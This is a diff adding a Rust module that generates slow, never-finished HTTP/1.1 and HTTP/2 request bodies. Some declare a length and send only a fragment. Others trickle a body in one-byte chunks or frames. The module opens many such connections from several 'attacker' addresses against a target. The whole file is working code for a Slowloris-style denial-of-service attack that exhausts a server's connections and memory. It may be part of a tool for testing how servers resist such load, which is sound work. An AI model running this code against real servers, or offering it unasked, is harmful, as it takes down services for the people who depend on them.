@@ -1,0 +1,109 @@
+//! Bodies that do not end: begun and left, or in pieces of one byte.
+
+use std::io::{self, Write as _};
+
+use super::{Connection, Protocol, Request, Target, each, http2};
+
+/// What every body begins with: the value of a member that goes on and on.
+const BEGINNING: &[u8] = br#"{"name":""#;
+
+/// Requests whose bodies are begun, `each_sends` of them from each of so many addresses: over HTTP/1.1 a connection
+/// each, over HTTP/2 streams of one connection.
+pub fn begun(
+    target: &Target,
+    request: &Request,
+    protocol: Protocol,
+    addresses: u32,
+    each_sends: u32,
+) -> Vec<Connection> {
+    match protocol {
+        Protocol::Http1 => each(addresses * each_sends, |number| {
+            begin_over_http1(target, request, number / each_sends)
+        }),
+        Protocol::Http2 => each(addresses, |number| {
+            begin_over_http2(target, request, number, each_sends)
+        }),
+    }
+}
+
+fn begin_over_http1(target: &Target, request: &Request, number: u32) -> io::Result<Connection> {
+    let mut bytes = request.head("content-length: 1000\r\n").into_bytes();
+    bytes.extend(BEGINNING);
+    let mut connection = target.connect(number, Protocol::Http1)?;
+    connection.write_all(&bytes)?;
+    Ok(connection)
+}
+
+/// So many requests of the attacker `number` over one connection.
+pub fn begin_over_http2(
+    target: &Target,
+    request: &Request,
+    number: u32,
+    streams: u32,
+) -> io::Result<Connection> {
+    let mut bytes = http2::preface(http2::WIDE);
+    for stream in (0..streams).map(http2::stream) {
+        bytes.extend(http2::head(stream, request, true));
+        bytes.extend(http2::data(stream, BEGINNING));
+    }
+    let mut connection = target.connect(number, Protocol::Http2)?;
+    connection.write_all(&bytes)?;
+    Ok(connection)
+}
+
+/// How a body is cut.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Cut {
+    /// As few pieces as there may be.
+    Plain,
+    /// A chunk, or a frame, for each byte.
+    Bytes,
+}
+
+/// Requests with all of a body of `size` bytes but its end, a connection each.
+pub fn unended(
+    target: &Target,
+    request: &Request,
+    protocol: Protocol,
+    (size, cut): (usize, Cut),
+    count: u32,
+) -> Vec<Connection> {
+    let mut body = BEGINNING.to_vec();
+    body.resize(size, b'x');
+    let bytes = match protocol {
+        Protocol::Http1 => in_chunks(request, &body, cut),
+        Protocol::Http2 => in_frames(request, &body, cut),
+    };
+    each(count, |number| {
+        let mut connection = target.connect(number, protocol)?;
+        connection.write_all(&bytes)?;
+        Ok(connection)
+    })
+}
+
+fn in_chunks(request: &Request, body: &[u8], cut: Cut) -> Vec<u8> {
+    let mut bytes = request.head("transfer-encoding: chunked\r\n").into_bytes();
+    for piece in body.chunks(piece_size(cut)) {
+        bytes.extend(format!("{:x}\r\n", piece.len()).as_bytes());
+        bytes.extend(piece);
+        bytes.extend(b"\r\n");
+    }
+    bytes
+}
+
+fn in_frames(request: &Request, body: &[u8], cut: Cut) -> Vec<u8> {
+    let mut bytes = http2::preface(http2::WIDE);
+    bytes.extend(http2::head(1, request, true));
+    for piece in body.chunks(piece_size(cut)) {
+        bytes.extend(http2::data(1, piece));
+    }
+    bytes
+}
+
+fn piece_size(cut: Cut) -> usize {
+    match cut {
+        // The largest frame that may be sent without asking.
+        Cut::Plain => 16_384,
+        Cut::Bytes => 1,
+    }
+}
